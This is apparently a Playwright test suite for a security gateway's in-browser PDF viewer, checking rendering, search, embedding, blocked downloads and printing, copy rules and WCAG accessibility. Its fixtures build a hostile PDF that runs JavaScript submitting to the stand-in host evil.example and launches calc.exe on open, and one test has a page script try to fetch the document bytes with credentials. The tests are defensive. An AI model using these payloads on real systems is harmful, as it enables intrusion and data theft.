import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import axe from 'axe-core';
import type { Frame, Page } from 'playwright-core';
import type { TestBrowser } from '../support/chromium.ts';
import { launchSignedIn } from '../support/signed-in-browser.ts';
import { startTestGateway, type TestGateway } from '../support/test-gateway.ts';

const PAGE = (more: string): string => `<!doctype html><title>App</title><p id="app">the app</p>${more}`;
const PAGES = {
  '/frame': PAGE('<iframe id="it" src="/plan.pdf" width="600" height="500"></iframe>'),
  '/object': PAGE('<object id="it" data="/plan.pdf" type="application/pdf" width="600" height="500"></object>'),
  '/embed': PAGE('<embed id="it" src="/plan.pdf" type="application/pdf" width="600" height="500">'),
  '/links': PAGE('<a id="open" href="/plan.pdf">open</a> <a id="saved" href="/plan.pdf?saved">save</a>'),
};
const WORD = 'Portcullis';
const RULES = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'];

async function madeFiles(): Promise<Record<string, Buffer>> {
  const plan = await PDFDocument.create();
  const font = await plan.embedFont(StandardFonts.Helvetica);
  for (let number = 1; number <= 8; number++) {
    const page = plan.addPage([595, 842]);
    page.drawText(`Chapter ${number}`, { x: 60, y: 760, size: 28, font });
    page.drawText(number === 6 ? `Here is the ${WORD} of the plan.` : 'Nothing to see.', { x: 60, y: 700, font });
    page.drawRectangle({ x: 60, y: 120, width: 60 * number, height: 40 });
  }
  // What a reader of its own would do when it opens this.
  const acting = await PDFDocument.create();
  acting.addPage([300, 300]).drawText('calm');
  acting.addJavaScript('one', 'globalThis.ran = 1; app.alert("ran"); this.submitForm("https://evil.example/");');
  acting.catalog.set(
    PDFName.of('OpenAction'),
    acting.context.obj({
      Type: 'Action',
      S: 'Launch',
      F: PDFString.of('calc.exe'),
      URI: PDFString.of('https://evil.example/'),
    }),
  );
  const locked = await PDFDocument.create();
  locked.addPage([300, 300]).drawText('locked');
  locked.encrypt({ userPassword: 'x' });
  const bytes = Buffer.from(await plan.save());
  return {
    plan: bytes,
    uncopied: bytes,
    acting: Buffer.from(await acting.save()),
    locked: Buffer.from(await locked.save()),
    broken: Buffer.from('%PDF-1.7\nthis is none'),
  };
}

describe('the gateway’s viewer of documents, in Chromium', () => {
  let gateway: TestGateway;
  let browser: TestBrowser;
  let wiki: string;
  let login: string;
  before(async () => {
    const files = await madeFiles();
    gateway = await startTestGateway({
      policies: [
        {
          id: 'look',
          name: 'Look only',
          severity: 'low',
          mode: 'active',
          control: 'download',
          action: 'block',
          preview: true,
        },
        {
          ...{ id: 'uncopied', name: 'No copying', severity: 'low', mode: 'active' },
          ...{ control: 'activities', activities: ['copy'], action: 'block', when: { path: ['/uncopied*'] } },
        },
      ],
      handler: (request, response) => {
        const { pathname } = new URL(request.url ?? '/', 'https://x.test');
        const name = /^\/(\w+)\.pdf$/.exec(pathname)?.[1];
        const file = name === undefined ? undefined : files[name];
        if (file) {
          const disposition = request.url?.includes('saved') ? 'attachment' : 'inline';
          response
            .writeHead(200, {
              'content-type': 'application/pdf',
              'content-disposition': `${disposition}; filename="${name}.pdf"`,
            })
            .end(file);
          return;
        }
        const html = Object.hasOwn(PAGES, pathname) ? PAGES[pathname as keyof typeof PAGES] : PAGE('');
        const strict = request.url?.includes('strict') ? { 'content-security-policy': "default-src 'self'" } : {};
        response.writeHead(200, { 'content-type': 'text/html', ...strict }).end(html);
      },
    });
    wiki = gateway.suffix('wiki.corp.test');
    login = `https://login.mcas.localhost:${gateway.port}`;
    browser = await launchSignedIn(`${wiki}/`);
  });
  after(async () => {
    await browser?.close();
    await gateway?.close();
  });

  /** The page's own policy lets nothing evaluate a text there, so that it is asked from outside, again and again. */
  async function until(page: Page | Frame, expression: string): Promise<void> {
    for (let turn = 0; turn < 4800; turn++) {
      if (await page.evaluate(expression)) return;
      await new Promise((resolve) => setTimeout(resolve, 25));
    }
    assert.fail(expression);
  }
  /** Until a page of the document is drawn: something on it is not white. */
  function drawn(page: Page | Frame, number = 1): Promise<void> {
    return until(
      page,
      `(() => {
        const canvas = document.querySelectorAll('.sheet')[${number - 1}]?.querySelector('canvas');
        const data = canvas?.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data;
        return data?.some((value, at) => at % 4 !== 3 && value < 128) === true;
      })()`,
    );
  }
  async function opened(path: string): Promise<Page> {
    const page = await browser.context.newPage();
    await page.goto(wiki + path);
    return page;
  }

  test('shows the pages, turns and zooms them by button and key, and finds words', async () => {
    const page = await opened('/plan.pdf');
    assert.equal(new URL(page.url()).origin, login);
    await drawn(page);
    assert.equal(await page.title(), 'plan.pdf · Sallyport');
    assert.equal(await page.locator('.sheet').count(), 8);
    await until(page, "document.getElementById('of').textContent === 'of 8'");
    await until(page, "document.getElementById('previous').disabled");
    await page.click('#next');
    await until(page, "document.getElementById('page').value === '2'");
    const before = (await page.locator('.sheet').first().boundingBox())?.width ?? 0;
    await page.click('#larger');
    const after = (await page.locator('.sheet').first().boundingBox())?.width ?? 0;
    assert.ok(after > before * 1.2, `${before} → ${after}`);
    await page.fill('#search', WORD.toUpperCase());
    await page.press('#search', 'Enter');
    await until(page, "document.getElementById('said').textContent.startsWith('Match on page 6; 1 in all')");
    await drawn(page, 6);
    await until(page, "(CSS.highlights.get('found')?.size ?? 0) > 0");
    await page.fill('#search', 'absent');
    await page.press('#search', 'Enter');
    await until(page, "document.getElementById('said').textContent === 'Nothing was found.'");
    await page.fill('#page', '8');
    await page.press('#page', 'Enter');
    await drawn(page, 8);
    await until(page, "document.getElementById('next').disabled");
    await page.close();
  });

  for (const [path, tag] of [
    ['/frame', 'iframe'],
    ['/frame?strict', 'iframe'],
    ['/object', 'object'],
    ['/object?strict', 'object'],
    ['/embed', 'embed'],
  ] as const)
    test(`shows itself in the page of an app: ${path} in ${tag}`, async () => {
      const page = await opened(path);
      await until(page, "document.getElementById('it') !== null");
      const viewer = async (): Promise<Frame> => {
        for (let turn = 0; turn < 4800; turn++) {
          const found = page.frames().find((frame) => frame.url().includes('/sallyport/view?'));
          if (found) return found;
          await new Promise((resolve) => setTimeout(resolve, 25));
        }
        throw new Error(
          page
            .frames()
            .map((frame) => frame.url())
            .join(' '),
        );
      };
      const frame = await viewer();
      await drawn(frame);
      // Script of the app reaches nothing of it.
      const reached = await page.evaluate(`(() => {
        const it = document.getElementById('it');
        try { return it.contentWindow.document.title } catch (error) { return error.name }
      })()`);
      assert.ok(reached === 'SecurityError' || reached === 'TypeError', String(reached));
      await page.close();
    });

  test('what is to be saved is looked at instead, and nothing is downloaded', async () => {
    const page = await opened('/links');
    const downloads: string[] = [];
    page.on('download', (download) => downloads.push(download.suggestedFilename()));
    await page.click('#saved');
    await page.waitForURL(/\/sallyport\/view\?/);
    await drawn(page);
    // Opened again, it comes anew.
    const first = page.url();
    await page.reload();
    await drawn(page);
    assert.notEqual(page.url(), first);
    await page.goBack();
    assert.deepEqual(downloads, []);
    await page.close();
  });

  test('attack: an app’s script asks for the document, its page and its bytes', async () => {
    const viewer = await opened('/plan.pdf');
    await drawn(viewer);
    const other = await opened('/links');
    const answers = await other.evaluate(`Promise.all([
      fetch('/plan.pdf').then((r) => r.text(), String),
      fetch(${JSON.stringify(viewer.url())}, { credentials: 'include' }).then((r) => r.text(), String),
      fetch(${JSON.stringify(viewer.url())}, { credentials: 'include', mode: 'no-cors' }).then((r) => r.type + r.status, String),
      fetch(${JSON.stringify(`${login}/.well-known/sallyport/view-bytes`)}, { method: 'POST', credentials: 'include', headers: { 'sallyport-view': 'x' } }).then((r) => r.text(), String),
      new Promise((resolve) => { const w = open('/plan.pdf'); setTimeout(() => { try { resolve(w.document.body.outerHTML) } catch (e) { resolve(e.name) } }, 1500) }),
    ])`);
    const [plan, page, opaque, bytes, window] = answers as readonly string[];
    assert.match(plan!, /"error":"blocked"/);
    assert.match(page!, /TypeError/);
    assert.equal(opaque, 'opaque0');
    assert.match(bytes!, /TypeError/);
    assert.doesNotMatch(window!, /canvas|%PDF/);
    await other.close();
    await viewer.close();
  });

  test('attack: a document with script and a program to start does neither', async () => {
    const page = await browser.context.newPage();
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    page.on('dialog', (dialog) => {
      asked.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    await page.goto(`${wiki}/acting.pdf`);
    await drawn(page);
    assert.equal(await page.evaluate('globalThis.ran'), undefined);
    assert.deepEqual(
      asked.filter((url) => !url.startsWith(login) && !url.startsWith(wiki)),
      [],
    );
    await page.close();
  });

  test('what cannot be shown is said plainly', async () => {
    for (const [name, said] of [
      ['locked', /password/],
      ['broken', /damaged/],
    ] as const) {
      const page = await opened(`/${name}.pdf`);
      await until(page, "document.getElementById('said').className === 'fault'");
      assert.match((await page.textContent('#said')) ?? '', said);
      await page.close();
    }
  });

  test('nothing of it is printed, and no key saves it', async () => {
    const page = await opened('/plan.pdf');
    await drawn(page);
    await page.emulateMedia({ media: 'print' });
    assert.equal(await page.isVisible('.sheet'), false);
    assert.equal(await page.isVisible('.paper'), true);
    await page.emulateMedia({ media: 'screen' });
    const stopped = await page.evaluate(`['s', 'p', 'u'].map((key) =>
      !document.body.dispatchEvent(new KeyboardEvent('keydown', { key, ctrlKey: true, bubbles: true, cancelable: true })))`);
    assert.deepEqual(stopped, [true, true, true]);
    await page.close();
  });

  test('text is selected and copied where no rule forbids it, and only there', async () => {
    for (const [name, may] of [
      ['plan', true],
      ['uncopied', false],
    ] as const) {
      const page = await opened(`/${name}.pdf`);
      await drawn(page);
      const passes = await page.evaluate(
        "document.querySelector('.sheet').dispatchEvent(new ClipboardEvent('copy', { bubbles: true, cancelable: true }))",
      );
      assert.equal(passes, may, name);
      await page.close();
    }
  });

  for (const [language, viewport, colorScheme] of [
    ['en', { width: 1280, height: 800 }, 'light'],
    ['de', { width: 320, height: 640 }, 'dark'],
    ['ja', { width: 320, height: 640 }, 'light'],
  ] as const)
    test(`with a document in it, under WCAG 2.2 AA: ${language}, ${viewport.width} pixels, ${colorScheme}`, async () => {
      const page = await browser.context.newPage();
      await page.setExtraHTTPHeaders({ 'accept-language': language });
      await page.setViewportSize(viewport);
      await page.emulateMedia({ colorScheme });
      await page.goto(`${wiki}/plan.pdf`);
      await drawn(page);
      await page.evaluate(axe.source);
      const faults = await page.evaluate(`axe.run({ runOnly: { type: 'tag', values: ${JSON.stringify(RULES)} } })
        .then(({ violations }) => violations.flatMap(({ id, nodes }) => nodes.map(({ html }) => id + ': ' + html)))`);
      assert.deepEqual(faults, []);
      assert.ok(await page.evaluate('document.documentElement.scrollWidth <= innerWidth'));
      if (process.env['PREVIEW_SHOT'])
        await page.screenshot({ path: `${process.env['PREVIEW_SHOT']}-${language}.png` });
      await page.close();
    });
});
